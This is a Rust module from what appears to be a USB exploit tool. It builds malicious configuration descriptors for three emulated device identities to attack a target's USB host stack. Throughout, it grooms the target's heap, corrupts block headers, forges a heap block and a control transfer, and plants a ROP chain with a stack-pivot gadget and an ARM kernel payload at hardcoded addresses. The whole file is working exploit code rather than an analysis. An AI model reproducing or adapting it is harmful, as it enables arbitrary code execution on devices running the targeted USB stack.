//! Configuration descriptor blueprints, one table per device identity.
//!
//! Every size below was matched against the victim allocator's block
//! boundaries; they are fixtures, not derived values. The configuration
//! index a blueprint answers to is its position in the table.

use crate::ch9::{ConfigDescriptor, Speed, USB_DIR_IN, USB_DT_CONFIG_SIZE, USB_DT_ENDPOINT};
use crate::device::Identity;
use crate::layout::{
    ctrl_xfer_mgr, ControlTransactionEvent, HeapBlockHeader, Queue, QueueItemHeader,
};
use crate::payload::Payloads;
use crate::rop::{
    final_rop, stackpivot_rop, ARM_KERNEL_OFFSET, CUSTOM_EVENT_LOCATION, CUSTOM_EVENT_OFFSET,
    FINAL_ROP_OFFSET, USB_REQ_CUSTOM,
};
use bytes::BufMut;

/// Size of a blueprint's blob.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Size {
    Fixed(usize),
    BySpeed { full: usize, high: usize },
    /// Up to the end of the victim's control transfer manager.
    ControlManagerEnd,
}

impl Size {
    pub fn resolve(self, speed: Speed) -> usize {
        match (self, speed) {
            (Size::Fixed(size), _) => size,
            (Size::BySpeed { full, .. }, Speed::Full) => full,
            (Size::BySpeed { high, .. }, Speed::High) => high,
            (Size::ControlManagerEnd, speed) => HeapGeometry::for_speed(speed).final_descriptor_size(),
        }
    }
}

/// How the first read of a configuration index is recognised.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Probe {
    /// The first read asks for exactly the standard header and the
    /// follow-up for exactly the blueprint size. Any other length gets the
    /// mismatch sentinel.
    Header,
    /// The follow-up asks for exactly the blueprint size; every other length
    /// is answered with the size and the mismatch sentinel.
    ///
    /// The victim's host stack issues the first read of a configuration
    /// with the length of the previous one and only re-reads when the
    /// advertised total differs.
    Exact,
}

/// `wTotalLength` reported by the follow-up read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TotalLength {
    /// Just the header, so the parser stops right after it.
    Header,
    /// The blueprint's own size.
    Own,
    Fixed(u16),
    /// The sizes of the listed entries of the same table plus `headers` heap
    /// block headers, so the parser walks across the following blocks.
    Chain {
        entries: &'static [usize],
        headers: usize,
    },
}

/// A byte pattern placed on top of the fill.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Injection {
    /// Overwrites the byte `from_end` bytes before the end of the blob.
    TailByte { from_end: usize, value: u8 },
    /// Places a forged heap block header.
    HeapBlock {
        offset: usize,
        header: HeapBlockHeader,
    },
    /// Final chain, kernel binary, forged control transfer and heap repair.
    FinalStage,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Blueprint {
    pub size: Size,
    pub probe: Probe,
    pub fill: u8,
    pub total_length: TotalLength,
    pub injections: &'static [Injection],
}

/// Placement of the final descriptor relative to the victim's structures.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HeapGeometry {
    /// Where the last configuration descriptor gets allocated.
    pub last_desc_location: u32,
    /// Where the device's `UhsCtrlXferMgr` lives.
    pub ctrl_mgr_location: u32,
    /// Offset of the heap repair snapshot in the final descriptor.
    pub heap_repair_offset: usize,
}

impl HeapGeometry {
    pub fn for_speed(speed: Speed) -> Self {
        match speed {
            Speed::Full => HeapGeometry {
                last_desc_location: 0x102a_b3a0,
                ctrl_mgr_location: 0x102b_50a0,
                heap_repair_offset: 0x2540,
            },
            Speed::High => HeapGeometry {
                last_desc_location: 0x102a_7fe0,
                ctrl_mgr_location: 0x102b_0860,
                heap_repair_offset: 0x58a0,
            },
        }
    }

    /// Offset of the control transfer manager inside the final descriptor.
    pub fn ctrl_mgr_offset(&self) -> usize {
        (self.ctrl_mgr_location - self.last_desc_location) as usize
    }

    pub fn final_descriptor_size(&self) -> usize {
        self.ctrl_mgr_offset() + ctrl_xfer_mgr::SIZE as usize
    }

    /// Bytes available for the heap repair snapshot.
    pub fn heap_repair_capacity(&self) -> usize {
        self.ctrl_mgr_offset() - self.heap_repair_offset
    }
}

// corrupt the magic and jump over the next 2 block headers
const CORRUPT_AND_SKIP: &[Injection] = &[
    Injection::TailByte {
        from_end: 4,
        value: (HeapBlockHeader::SIZE * 2 + 4) as u8,
    },
    Injection::TailByte {
        from_end: 3,
        value: USB_DT_ENDPOINT,
    },
];

// jump over the next 2 block headers
const SKIP: &[Injection] = &[Injection::TailByte {
    from_end: 1,
    value: (HeapBlockHeader::SIZE * 2 + 1) as u8,
}];

const CORRUPT: &[Injection] = &[
    Injection::TailByte {
        from_end: 4,
        value: 4,
    },
    Injection::TailByte {
        from_end: 3,
        value: USB_DT_ENDPOINT,
    },
];

const DEVICE1_SIZE: usize = 0x10;
const DEVICE1_JUMP: usize = 10 + HeapBlockHeader::SIZE;

/// First identity: lays out the heap holes and corrupts block magics.
pub static DEVICE0: [Blueprint; 7] = [
    // everything above 0xca0 gets placed at the end of the heap
    Blueprint {
        size: Size::BySpeed {
            full: 0xaa20,
            high: 0xf260,
        },
        probe: Probe::Header,
        fill: 1,
        total_length: TotalLength::Chain {
            entries: &[0, 2, 3, 4, 5],
            headers: 8,
        },
        injections: CORRUPT_AND_SKIP,
    },
    // fills up a heap hole
    Blueprint {
        size: Size::Fixed(0xca0),
        probe: Probe::Exact,
        fill: 0,
        total_length: TotalLength::Header,
        injections: &[],
    },
    Blueprint {
        size: Size::Fixed(0x40),
        probe: Probe::Exact,
        fill: 1,
        total_length: TotalLength::Own,
        injections: SKIP,
    },
    Blueprint {
        size: Size::Fixed(0x40),
        probe: Probe::Exact,
        fill: 1,
        total_length: TotalLength::Own,
        injections: CORRUPT_AND_SKIP,
    },
    Blueprint {
        size: Size::Fixed(0x40),
        probe: Probe::Exact,
        fill: 1,
        total_length: TotalLength::Own,
        injections: SKIP,
    },
    Blueprint {
        size: Size::Fixed(0x40 * 3),
        probe: Probe::Exact,
        fill: 1,
        total_length: TotalLength::Own,
        injections: CORRUPT,
    },
    // points into the middle of the EP0 DMA buffer
    Blueprint {
        size: Size::Fixed(0x2380),
        probe: Probe::Exact,
        fill: 1,
        total_length: TotalLength::Own,
        injections: &[],
    },
];

/// Second identity: swaps a free block's next pointer into the middle of
/// the heap.
pub static DEVICE1: [Blueprint; 1] = [Blueprint {
    size: Size::Fixed(DEVICE1_SIZE),
    probe: Probe::Header,
    fill: 1,
    total_length: TotalLength::Fixed(
        (DEVICE1_SIZE + DEVICE1_JUMP + ControlTransactionEvent::SIZE) as u16,
    ),
    injections: &[Injection::TailByte {
        from_end: 1,
        value: DEVICE1_JUMP as u8,
    }],
}];

/// Third identity: allocates over the control transfer manager and queues
/// the forged transfer.
pub static DEVICE2: [Blueprint; 3] = [
    // fills up heap holes
    Blueprint {
        size: Size::BySpeed {
            full: 0xaa40,
            high: 0xe2a0,
        },
        probe: Probe::Header,
        fill: 0,
        total_length: TotalLength::Header,
        injections: &[],
    },
    // the swapped next pointer lands on this large free block
    Blueprint {
        size: Size::BySpeed {
            full: 0x8760,
            high: 0x5380 + HeapBlockHeader::SIZE,
        },
        probe: Probe::Exact,
        fill: 0,
        total_length: TotalLength::Header,
        injections: &[Injection::HeapBlock {
            offset: 0x5320,
            header: HeapBlockHeader {
                magic: 0xbabe_0000,
                size: 0x0010_0000,
                prev: 0x102c_0580,
                next: 0,
            },
        }],
    },
    Blueprint {
        size: Size::ControlManagerEnd,
        probe: Probe::Exact,
        fill: 0,
        total_length: TotalLength::Header,
        injections: &[Injection::FinalStage],
    },
];

/// The blueprints presented while `identity` is connected.
pub fn table(identity: Identity) -> &'static [Blueprint] {
    match identity {
        Identity::Device0 => &DEVICE0,
        Identity::Device1 => &DEVICE1,
        Identity::Device2 => &DEVICE2,
    }
}

impl Blueprint {
    pub fn size(&self, speed: Speed) -> usize {
        self.size.resolve(speed)
    }

    /// `wTotalLength` written into the follow-up's header.
    pub fn total_length(&self, table: &[Blueprint], speed: Speed) -> u16 {
        match self.total_length {
            TotalLength::Header => USB_DT_CONFIG_SIZE as u16,
            TotalLength::Own => self.size(speed) as u16,
            TotalLength::Fixed(length) => length,
            TotalLength::Chain { entries, headers } => {
                let blobs: usize = entries.iter().map(|&i| table[i].size(speed)).sum();
                (blobs + headers * HeapBlockHeader::SIZE) as u16
            }
        }
    }

    /// Renders the follow-up blob behind an already encoded header.
    ///
    /// Returns the blob size, or `None` if a payload needed for `speed` is
    /// missing.
    pub fn render(
        &self,
        table: &[Blueprint],
        speed: Speed,
        payloads: &Payloads,
        buf: &mut [u8],
    ) -> Option<usize> {
        let size = self.size(speed);
        buf[USB_DT_CONFIG_SIZE..size].fill(self.fill);

        for injection in self.injections {
            match *injection {
                Injection::TailByte { from_end, value } => buf[size - from_end] = value,
                Injection::HeapBlock { offset, header } => {
                    header.encode(&mut buf[offset..offset + HeapBlockHeader::SIZE])
                }
                Injection::FinalStage => write_final_stage(speed, payloads, buf)?,
            }
        }

        ConfigDescriptor::set_total_length(buf, self.total_length(table, speed));
        Some(size)
    }
}

/// The forged transfer: an IN vendor request whose data lands on the
/// background thread stack and whose completion callback starts the pivot.
pub fn forged_transfer(geometry: &HeapGeometry) -> ControlTransactionEvent {
    ControlTransactionEvent {
        header: QueueItemHeader {
            index: 0,
            queue: geometry.ctrl_mgr_location + ctrl_xfer_mgr::CONTROL_TRANSACTION_QUEUE,
            prev: 0,
            // can't be 0, so point into the events buffer
            next: geometry.ctrl_mgr_location + ctrl_xfer_mgr::EVENTS,
        },
        request_type: USB_DIR_IN,
        request: USB_REQ_CUSTOM,
        value: 0,
        index: 0,
        length: (stackpivot_rop().len() * 4 + 4) as u16,
        // everything below this on the background thread stack crashes
        buffer: 0x1016_ad70,
        argptr: 0,
        timeout: 7_500_000,
        result: 0,
        // sp is 0x1016ace4 when this gets called
        callback: 0x1010_3084, // add sp, sp, #0x84; pop {r4, r5, r6, pc}
    }
}

fn write_final_stage(speed: Speed, payloads: &Payloads, buf: &mut [u8]) -> Option<()> {
    let geometry = HeapGeometry::for_speed(speed);
    let heap_repair = payloads.heap_repair(speed)?;
    let kernel = payloads.arm_kernel();

    let rop = final_rop(kernel.len() as u32);
    let mut out = &mut buf[FINAL_ROP_OFFSET..FINAL_ROP_OFFSET + rop.len() * 4];
    for word in rop {
        out.put_u32(word);
    }

    buf[ARM_KERNEL_OFFSET..ARM_KERNEL_OFFSET + kernel.len()].copy_from_slice(kernel);

    forged_transfer(&geometry)
        .encode(&mut buf[CUSTOM_EVENT_OFFSET..CUSTOM_EVENT_OFFSET + ControlTransactionEvent::SIZE]);

    let repair = geometry.heap_repair_offset;
    buf[repair..repair + heap_repair.len()].copy_from_slice(heap_repair);

    // make the forged transfer the only queued one
    let queue = geometry.ctrl_mgr_offset() + ctrl_xfer_mgr::CONTROL_TRANSACTION_QUEUE as usize;
    Queue {
        num_items: 1,
        first: CUSTOM_EVENT_LOCATION,
        last: CUSTOM_EVENT_LOCATION,
    }
    .encode(&mut buf[queue..queue + Queue::SIZE]);

    Some(())
}
